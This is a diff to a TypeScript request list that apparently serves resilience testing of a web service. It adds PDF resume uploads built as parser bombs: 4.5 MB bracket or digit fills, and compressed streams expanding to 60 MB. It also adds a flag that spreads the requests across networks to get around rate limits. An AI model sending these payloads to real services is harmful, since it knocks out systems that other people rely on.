@@ -1,3 +1,5 @@
+import { deflateSync } from "node:zlib";
+
 /** What a stranger sends to make work; `random` differs each time. */
 export interface Kind {
   name: string;
@@ -5,8 +7,10 @@ export interface Kind {
     path: string;
     method?: string;
     headers?: Record<string, string>;
-    body?: string;
+    body?: string | Buffer;
   };
+  /** Each request comes from another network, so that the limit of one does not end the attack. */
+  manyNetworks?: boolean;
 }
 
 const form = (fields: Record<string, string>) => ({
@@ -14,6 +18,37 @@ const form = (fields: Record<string, string>) => ({
   headers: { "Content-Type": "application/x-www-form-urlencoded" },
   body: String(new URLSearchParams(fields)),
 });
+
+const boundary = "resume-boundary";
+
+/** A resume sent by the career form. */
+const resume = (content: Buffer) => ({
+  path: "/gdapi/resume.php",
+  method: "POST",
+  headers: { "Content-Type": `multipart/form-data; boundary=${boundary}` },
+  body: Buffer.concat([
+    Buffer.from(
+      `--${boundary}\r\nContent-Disposition: form-data; name="resumeupload"; filename="cv.pdf"\r\n\r\n%PDF-1.7\n1 0 obj\n<<`,
+    ),
+    content,
+    Buffer.from(`\nendobj\n%%EOF\n\r\n--${boundary}--\r\n`),
+  ]),
+});
+
+const packed = (pattern: string, bytes: number) =>
+  Buffer.concat([
+    Buffer.from("/Type/ObjStm/N 9/First 9/Filter/FlateDecode>>\nstream\n"),
+    deflateSync(Buffer.alloc(bytes, pattern, "latin1")),
+    Buffer.from("\nendstream"),
+  ]);
+
+/** Made once: strangers have them ready, too. */
+const resumes = {
+  brackets: resume(Buffer.alloc(4_500_000, "(\\(", "latin1")),
+  digits: resume(Buffer.alloc(4_500_000, "1", "latin1")),
+  brackets60: resume(packed("(\\(", 60_000_000)),
+  names60: resume(packed("#61", 60_000_000)),
+};
 
 const cookieOf = (text: string) => encodeURIComponent(Buffer.from(JSON.stringify(text)).toString("base64"));
 const twoDigits = (value: string, most: number) => String((Number(value) % most) + 1).padStart(2, "0");
@@ -62,6 +97,14 @@ export const kinds: Kind[] = [
     name: "login with wrong passwords",
     request: (random) => ({ path: "/login", ...form({ username: `u${random}`, password: random }) }),
   },
+  {
+    name: "resume of 4.5 MB of brackets",
+    request: () => resumes.brackets,
+    manyNetworks: true,
+  },
+  { name: "resume of 4.5 MB of digits", request: () => resumes.digits, manyNetworks: true },
+  { name: "resume with 60 MB of brackets packed", request: () => resumes.brackets60, manyNetworks: true },
+  { name: "resume with 60 MB of names packed", request: () => resumes.names60, manyNetworks: true },
   {
     name: "contact form, empty",
     request: () => ({ path: "/contact", ...form({ message: "" }) }),
